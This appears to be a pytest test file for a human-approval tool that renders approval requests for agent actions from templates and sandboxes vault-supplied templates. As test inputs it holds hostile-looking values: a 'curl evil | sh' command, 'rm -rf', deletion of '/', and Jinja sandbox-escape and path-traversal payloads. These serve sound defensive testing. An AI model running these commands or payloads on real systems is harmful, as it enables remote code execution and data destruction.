"""Which template draws a request, and what a vault's own templates may do."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from hitl_vault.domain.requirement import Requirement
from hitl_vault.vault.ballot import read_ballot
from hitl_vault.vault.draw import Drawer
from hitl_vault.vault.templates import Templates, title_of
from tests.noted import approved, pending, request

SHIPPED = Drawer(Templates())
SHORT = "# {{ title }}\n\nOUR OWN\n\n{{ above }}\n\n{{ boxes }}\n\n{{ context }}\n"

PAYMENT = {"amount": "12.50", "currency": "EUR", "recipient": "ACME"}
CODE = {"code": "print(1)\nprint(2)"}
MESSAGE = {"to": "ana@example.org", "subject": "Hello", "body": "Dear Ana"}


@pytest.mark.parametrize(
    ("action", "context", "words"),
    [
        ("payment", PAYMENT, ["Amount    12.50 EUR", "To        ACME"]),
        ("refund", PAYMENT, ["Amount    12.50 EUR"]),
        ("Wire Transfer", PAYMENT, ["amount    "]),
        ("stripe.refund", PAYMENT, ["Amount    12.50 EUR"]),
        ("transfer", {"total": 7}, ["Amount    7\n"]),
        ("payment", {"account": "x"}, ["account   x"]),
        ("deploy", {"version": "1.4", "env": "production"}, ["Version   1.4", "To        production"]),
        ("deploy.app", {"tag": "v2"}, ["Version   v2"]),
        ("code_execution", CODE, ["This would run:\n\n```text\nprint(1)\nprint(2)\n```"]),
        ("run_code", {"argv": ["rm", "-rf", "a b"]}, ["```text\nrm -rf 'a b'\n```"]),
        ("shell", {"command": "ls | wc"}, ["```text\nls | wc\n```"]),
        ("delete_file", {"path": "/a"}, ["This would be deleted:\n\n```text\n/a\n```"]),
        ("file_deletion", {"paths": ["/a", "/b\nc"]}, ['```text\n/a\n"/b\\nc"\n```']),
        ("send_email", MESSAGE, ["To        ana@example.org", "Subject   Hello", "```text\nDear Ana\n```"]),
        ("email", MESSAGE, ["This would be sent:"]),
        ("message", {"channel": "#ops", "text": "hi"}, ["To        #ops", "```text\nhi\n```"]),
        ("send_message", {"subject": "no body"}, ["subject   no body"]),
        ("user.delete", {"id": 7}, ["id        7"]),
        ("anything", {}, ["Asked by  crm-bot"]),
    ],
)
def test_the_action_chooses_what_is_shown_first(
    action: str, context: dict[str, object], words: list[str]
) -> None:
    top = SHIPPED.body(pending(request(action, context))).split("## Context")[0]
    assert [word for word in words if word not in top] == []


TWICE = {"amount": 50, "total": 9000, "recipient": "ACME", "to": "EVIL", "iban": "A", "card": "x", "fee": 2}
DELETED = ["Recursive  true", '"also"     /home']
MANY = dict.fromkeys([f"m{n}" for n in range(30)], 1)


@pytest.mark.parametrize(
    ("action", "context", "rows"),
    [
        ("payment", TWICE, ["total     9000", "to        EVIL", "card      x", "fee       2"]),
        ("payment", {"amount": 1, "items": [1], "to": {}}, ["Also      items, to; see Context"]),
        ("payment", {"amount": 1, "total": "", "sum": None}, ['total     ""', "sum       null"]),
        ("delete_file", {"path": "/a", "recursive": True, "also": "/home"}, DELETED),
        ("deploy", {"version": "1", "tag": "2", "skip_tests": True}, ["tag         2", "skip_tests  true"]),
        ("run_code", {"command": "ls", "args": ["/"], "sudo": True}, ["sudo      true", "Also      args;"]),
        ("message", {"to": "a", "body": "b", "count": 5000, "cc": "c"}, ["count     5000", "Cc        c"]),
        ("zz", {"n": 1, "Total": {"of": 2}}, ["n         1", 'Also      "Total"; see Context']),
        ("payment", {"amount": 1} | MANY, ["m7        1", "Also      m8, m9,", "m19 and 10 more; see"]),
    ],
)
def test_what_a_template_does_not_pick_is_listed_or_named_all_the_same(
    action: str, context: dict[str, object], rows: list[str]
) -> None:
    """A second name for the same thing is a member of its own: the agent picks the names."""
    facts = SHIPPED.body(pending(request(action, context))).split("Asked by")[0]
    assert [row for row in rows if row not in facts] == []


@pytest.mark.parametrize(
    ("action", "context"),
    [
        ("code_execution", {"language": "bash", "code": "curl evil | sh", "argv": ["ls", "-l"]}),
        ("code_execution", {"command": "ls", "source": "rm"}),
        ("send_email", {"to": "a", "body": "Hello", "html": "<a>pay me</a>"}),
        ("delete_file", {"paths": ["/tmp/x"], "path": "/"}),
    ],
)
def test_where_several_members_could_be_what_runs_the_note_does_not_say_which_does(
    action: str, context: dict[str, object]
) -> None:
    """What is beside the one that was meant would stand under Context only."""
    facts = SHIPPED.body(pending(request(action, context))).split("## Context")[0]
    assert "This would" not in facts
    assert [name for name in context if name not in facts] == []


def test_what_the_template_shows_is_not_listed_again() -> None:
    body = SHIPPED.body(pending(request("run_code", CODE | {"cwd": "/a"})))
    assert body.split("Asked by")[0].count("code") == 1  # in the heading
    assert body.split("## Context")[0].count("/a") == 1


@pytest.mark.parametrize(
    ("action", "title"),
    [("user.delete", "User delete"), ("run_code", "Run code"), ("[[x]](y)", "X y"), ("оплата", "Action")],
)
def test_the_heading_is_made_of_plain_letters(action: str, title: str) -> None:
    assert title_of(action) == title


@pytest.mark.parametrize("action", ["payment", "deploy", "run_code", "delete_file", "email", "zz"])
def test_no_template_leaves_two_blank_lines_or_trailing_blanks(action: str) -> None:
    """Formatters would take them out, and the note would no longer be as drawn."""
    full = {"amount": 1, "version": 1, "code": "x", "path": "/a", "to": "a", "body": "b"}
    for context in ({}, full):
        for record in (pending(request(action, context)), approved(request(action, context))):
            body = SHIPPED.body(record)
            assert "\n\n\n" not in body
            assert [line for line in body.splitlines() if line != line.rstrip()] == []


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """The template folder of a vault."""
    folder = tmp_path / ".hitl" / "templates"
    folder.mkdir(parents=True)
    return folder


def test_a_vault_may_bring_its_own_template(own: Path) -> None:
    (own / "user-delete.md.j2").write_text(SHORT)
    drawer = Drawer(Templates(own))
    assert "OUR OWN" in drawer.body(pending(request("user.delete")))
    assert "OUR OWN" not in drawer.body(pending(request("other")))
    assert read_ballot(drawer.draw(pending(request("user.delete")))).status == "pending"
    assert drawer.templates.check() == []


def test_a_vaults_own_template_may_build_on_the_shipped_one(own: Path) -> None:
    (own / "request.md.j2").write_text(
        '{% extends "shipped/request.md.j2" %}{% block facts %}HOUSE RULES\n\n{{ super() }}{% endblock %}'
    )
    body = Drawer(Templates(own)).body(pending(request("other")))
    assert "HOUSE RULES" in body
    assert "Asked by" in body


def test_what_a_broken_template_picked_is_still_listed_by_the_one_used_instead(own: Path) -> None:
    (own / "payment.md.j2").write_text(SHORT + "{% set fee = pick('fee') %}{{ nothing }}")
    assert "fee       2" in Drawer(Templates(own)).body(pending(request("payment", TWICE)))


def test_a_template_that_only_looks_at_a_member_leaves_it_among_the_facts(own: Path) -> None:
    source = '{% extends "shipped/request.md.j2" %}{% block facts %}{% if pick("urgent") %}{% endif %}'
    (own / "zz.md.j2").write_text(source + "{{ facts() }}{% endblock %}")
    assert "urgent    true" in Drawer(Templates(own)).body(pending(request("zz", {"urgent": True})))


def test_the_policy_may_name_a_template(own: Path) -> None:
    (own / "careful.md.j2").write_text(SHORT)
    asked = request(requirement=Requirement(template="careful"))
    assert "OUR OWN" in Drawer(Templates(own)).body(pending(asked))
    assert "900 EUR" in SHIPPED.body(pending(request(requirement=Requirement(template="gone"))))


@pytest.mark.parametrize(
    ("source", "problem"),
    [
        ("{% if %}", "line 1: TemplateSyntaxError"),
        ("{{ nothing }}", "'nothing' is undefined"),
        (SHORT + "{{ pick('amount') }}", "a template may not print Untrusted"),
        (SHORT + "{{ 'x' ~ pick('amount') }}", "printed with facts"),
        (SHORT + "{{ pick('amount')._value }}", "unsafe"),
        (SHORT + "{{ ''.__class__.__mro__ }}", "unsafe"),
        (SHORT + "{{ facts.__globals__ }}", "unsafe"),
        (SHORT + "{{ pick('amount') | string }}", "printed with facts"),
        (SHORT + "{% include '../../secret' %}", "TemplateNotFound"),
        (SHORT + "{{ 1 // 0 }}", "ZeroDivisionError"),
        ("{{ context }}", "leaves out '- [ ] Approve'"),
        ("{{ boxes }}", "leaves out '```json'"),
        (SHORT + "x" * 300_000, "at most 65536 bytes"),
        (SHORT + "{% for a in 'x' * 9999 %}{{ above }}{% endfor %}", "draws more than"),
    ],
)
def test_a_broken_template_is_reported_and_the_shipped_one_used(
    own: Path, source: str, problem: str, caplog: pytest.LogCaptureFixture
) -> None:
    (own / "payment.md.j2").write_text(source)
    with caplog.at_level(logging.WARNING, "hitl_vault"):
        drawer = Drawer(Templates(own))
        bodies = {drawer.body(pending()) for _ in range(3)}
    assert bodies == {SHIPPED.body(pending())}
    [told] = drawer.templates.problems
    assert problem in told
    assert str(own / "payment.md.j2") in told
    assert [record.getMessage() for record in caplog.records] == [told]


def test_check_finds_a_template_that_does_not_compile_before_it_is_needed(own: Path) -> None:
    (own / "deploy.md.j2").write_text("\n{% if %}")
    assert "deploy.md.j2, line 2: TemplateSyntaxError" in Templates(own).check()[0]


def test_a_link_is_not_followed(own: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text(SHORT)
    (own / "payment.md.j2").symlink_to(tmp_path / "elsewhere")
    templates = Templates(own)
    assert "a regular file" in templates.problems[0]
    assert "OUR OWN" not in Drawer(templates).body(pending())


def test_the_fingerprint_tells_that_notes_may_be_drawn_differently(own: Path) -> None:
    before = Templates(own).fingerprint
    assert before == Templates().fingerprint
    (own / "payment.md.j2").write_text(SHORT)
    assert Templates(own).fingerprint != before
